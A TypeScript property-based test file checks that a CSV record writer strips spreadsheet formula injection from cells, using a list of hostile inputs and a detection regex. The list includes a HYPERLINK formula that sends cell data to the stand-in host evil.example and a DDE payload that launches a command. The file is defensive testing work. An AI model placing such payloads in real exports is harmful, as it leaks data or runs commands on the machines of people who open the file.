import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvRecord, textOfCell } from './csv-record.ts';

/** The records of a text cut at these signs, quotes known. */
function parse(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  for (const [, quoted = '', end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    record.push(quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    records.push(record);
    record = [];
  }
  return records;
}

const hostile = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20A1',
  '"=1+1',
  '",=1+1,"',
  'x;=1+1',
  'x",=1+1',
  'x\n=1+1',
  'x\r\n@A1',
  "'=1+1",
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  "=cmd|' /C calc'!A0",
];

/** Where any spreadsheet may begin a cell, whatever it cuts at and whether or not it knows quotes. */
const startsFormula = /(^|[\t\r\n,;|"])[\s\p{C}"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

describe('a record', () => {
  test.for(hostile)('takes the formula out of %j', (text) => {
    expect(csvRecord([text])).not.toMatch(startsFormula);
  });

  test('leaves numbers and harmless texts as they are', () => {
    expect(csvRecord([-3, 0.5, null, 'a = b', 'made@bale.example', 'well-known', 'one, two'])).toBe(
      '"-3","0.5","","a = b","made@bale.example","well-known","one, two"\r\n',
    );
  });

  test('takes no longer for signs that might begin a formula and do not', () => {
    const quotes = `${"'".repeat(1_000_000)}a`;
    expect(textOfCell(csvRecord([quotes]).slice(1, -3))).toBe(quotes);
  });

  test('parses back to the same, once the apostrophes are taken out', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...hostile),
      fc.stringMatching(/^[-=+@,;'"\t\r\n ]*$/),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1 }), { minLength: 1 }), (records) => {
        const text = records.map(csvRecord).join('');
        expect(parse(text).map((row) => row.map(textOfCell))).toEqual(records);
      }),
    );
  });

  test('begins no formula, whatever the texts are', () => {
    const piece = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '"',
      "'",
      ',',
      ';',
      '\t',
      '\n',
      '\r',
      ' ',
      '\u200b',
      '\uff1d',
      'a',
    );
    const text = fc.array(piece).map((pieces) => pieces.join(''));
    fc.assert(fc.property(fc.array(text, { minLength: 1 }), (cells) => !startsFormula.test(csvRecord(cells))));
  });
});
